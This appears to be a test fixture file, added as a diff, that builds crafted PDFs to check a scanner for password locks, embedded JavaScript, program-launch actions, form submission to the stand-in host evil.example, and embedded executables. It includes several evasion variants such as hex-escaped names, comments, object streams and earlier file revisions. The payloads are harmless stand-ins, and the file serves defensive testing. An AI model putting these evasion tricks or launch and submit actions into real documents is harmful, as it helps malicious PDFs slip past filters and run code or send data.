@@ -1,0 +1,156 @@
+import { createHash } from 'node:crypto';
+import { link, objectStream, pdf, stream, text, type SentPdf } from './crafted-pdf.ts';
+
+const js = '/S /JavaScript /JS (app.alert\\(1\\))';
+
+function rc4(key: Buffer, data: Buffer): Buffer {
+  const state = Array.from({ length: 256 }, (_, index) => index);
+  const swap = (a: number, b: number) => ([state[a], state[b]] = [state[b] as number, state[a] as number]);
+  for (let i = 0, j = 0; i < 256; i++)
+    swap(i, (j = (j + (state[i] as number) + (key[i % key.length] as number)) & 255));
+  let [i, j] = [0, 0];
+  return data.map((byte) => {
+    i = (i + 1) & 255;
+    j = (j + (state[i] as number)) & 255;
+    swap(i, j);
+    return byte ^ (state[((state[i] as number) + (state[j] as number)) & 255] as number);
+  }) as Buffer;
+}
+
+/** Opens without a password, and forbids its readers to print. */
+function lockedForPrinting(): Buffer {
+  const padding = Buffer.from('28bf4e5e4e758a4164004e56fffa01082e2e00b6d0683e802f0ca9fe6453697a', 'hex');
+  const owner = Buffer.alloc(32, 7);
+  const permissions = Buffer.alloc(4);
+  permissions.writeInt32LE(-64);
+  const id = Buffer.alloc(16, 9);
+  const key = createHash('md5')
+    .update(Buffer.concat([padding, owner, permissions, id]))
+    .digest()
+    .subarray(0, 5);
+  const user = rc4(key, padding);
+  const dictionary = `<< /Filter /Standard /V 1 /R 2 /O <${owner.toString('hex')}> /U <${user.toString('hex')}> /P -64 >>`;
+  return pdf({
+    objects: [dictionary],
+    trailer: `/Encrypt 5 0 R /ID [<${id.toString('hex')}> <${id.toString('hex')}>]`,
+  });
+}
+
+const locked = (dictionary: string) =>
+  pdf({ objects: [`<< /Filter /Standard ${dictionary} >>`], trailer: '/Encrypt 5 0 R /ID [<00> <00>]' });
+const junk = '<'.concat('5a'.repeat(32), '>');
+
+/** An earlier state of the file goes on lying in front of what was added to it. */
+const withEarlierScript = () => {
+  const first = pdf({ catalog: `/OpenAction << ${js} >>` });
+  const place = first.length;
+  const added = `1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n`;
+  const table = `xref\n1 1\n${String(place).padStart(10, '0')} 00000 n \n`;
+  const start = /startxref\n(\d+)/.exec(first.toString('latin1'))?.[1];
+  const tail = `trailer\n<< /Size 5 /Root 1 0 R /Prev ${start} >>\nstartxref\n${place + added.length}\n%%EOF\n`;
+  return Buffer.concat([first, text(added + table + tail)]);
+};
+
+/** Whole PDFs that are locked, run scripts, start programs or carry files. */
+export const armedPdfs: SentPdf[] = [
+  ['a PDF with a password', locked(`/V 1 /R 2 /O ${junk} /U ${junk} /P -4`), 'locked'],
+  ['a PDF with a password, 128 bits', locked(`/V 2 /R 3 /Length 128 /O ${junk} /U ${junk} /P -4`), 'locked'],
+  ['a PDF that may not be printed', lockedForPrinting(), 'locked'],
+
+  ['a script at opening', pdf({ catalog: `/OpenAction << ${js} >>` }), 'script'],
+  ['a script of the document', pdf({ catalog: `/Names << /JavaScript << /Names [(a) << ${js} >>] >> >>` }), 'script'],
+  ['a script when a page is shown', pdf({ page: `/AA << /O << ${js} >> >>` }), 'script'],
+  ['a script when the document is closed', pdf({ catalog: `/AA << /WC << ${js} >> >>` }), 'script'],
+  ['a script behind a link', pdf({ page: link(js) }), 'script'],
+  [
+    'a script behind a harmless link',
+    pdf({ page: link(`/S /URI /URI (https://example.com) /Next << ${js} >>`) }),
+    'script',
+  ],
+  [
+    'a script in a field of a form',
+    pdf({
+      catalog: '/AcroForm << /Fields [5 0 R] >>',
+      page: '/Annots [5 0 R]',
+      objects: [`<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /Rect [0 0 9 9] /AA << /K << ${js} >> >> >>`],
+    }),
+    'script',
+  ],
+  [
+    'a script in the outline',
+    pdf({
+      catalog: '/Outlines 5 0 R',
+      objects: ['<< /First 6 0 R /Last 6 0 R >>', `<< /Title (a) /Parent 5 0 R /A << ${js} >> >>`],
+    }),
+    'script',
+  ],
+  [
+    'a script with a spelled-out name',
+    pdf({ catalog: '/OpenAction << /#53 /J#61va#53cript /#4A#53 (app.alert\\(1\\)) >>' }),
+    'script',
+  ],
+  [
+    'a script with a comment in between',
+    pdf({ catalog: '/OpenAction << /S%x\n/JavaScript /JS%y\r(app.alert\\(1\\)) >>' }),
+    'script',
+  ],
+  [
+    'a script with a name kept elsewhere',
+    pdf({ catalog: '/OpenAction << /S 5 0 R /JS 6 0 R >>', objects: ['/JavaScript', '(app.alert\\(1\\))'] }),
+    'script',
+  ],
+  [
+    'a script in a stream',
+    pdf({ catalog: '/OpenAction << /S /JavaScript /JS 5 0 R >>', objects: [stream('', text('app.alert(1)'))] }),
+    'script',
+  ],
+  ['a script among compressed objects', pdf({ objects: [objectStream({ 8: `<< ${js} >>` })] }), 'script'],
+  [
+    'a script among compressed objects that do not say what they are',
+    pdf({ objects: [objectStream({ 8: `<< ${js} >>` }, '')] }),
+    'script',
+  ],
+  ['a script that nothing refers to', pdf({ objects: [`<< ${js} >>`] }), 'script'],
+  ['a script in an earlier state of the file', withEarlierScript(), 'script'],
+  [
+    'a script that plays with a film',
+    pdf({ catalog: '/OpenAction << /S /Rendition /JS (app.alert\\(1\\)) >>' }),
+    'script',
+  ],
+
+  ['a program started at opening', pdf({ catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' }), 'acts'],
+  ['a program started by a link', pdf({ page: link('/S /Launch /Win << /F (calc.exe) >>') }), 'acts'],
+  ['a program with a spelled-out name', pdf({ page: link('/S /L#61unch /F (calc.exe)') }), 'acts'],
+  ['a form that sends what is filled in', pdf({ page: link('/S /SubmitForm /F (https://evil.example)') }), 'acts'],
+  ['a form that fetches its content', pdf({ page: link('/S /ImportData /F (data.fdf)') }), 'acts'],
+  ['a way into another file', pdf({ page: link('/S /GoToE /T << /R /C /N (a.pdf) >>') }), 'acts'],
+
+  [
+    'a file inside',
+    pdf({
+      catalog: '/Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>] >> >>',
+      objects: [stream('/Type /EmbeddedFile', text('MZ'))],
+    }),
+    'attachment',
+  ],
+  [
+    'a file pinned to a page',
+    pdf({
+      page: '/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /F (a.exe) /EF << /F 5 0 R >> >> >>]',
+      objects: [stream('', text('MZ'))],
+    }),
+    'attachment',
+  ],
+  ['a film', pdf({ page: '/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>]' }), 'attachment'],
+  [
+    'a file among compressed objects',
+    pdf({ objects: [objectStream({ 8: '<< /F (a.exe) /EF << /F 9 0 R >> >>' })] }),
+    'attachment',
+  ],
+
+  [
+    'a form of the kind that only one program shows',
+    pdf({ catalog: '/AcroForm << /Fields [] /XFA 5 0 R >>', objects: [stream('', text('<xdp:xdp/>'))] }),
+    'form',
+  ],
+];
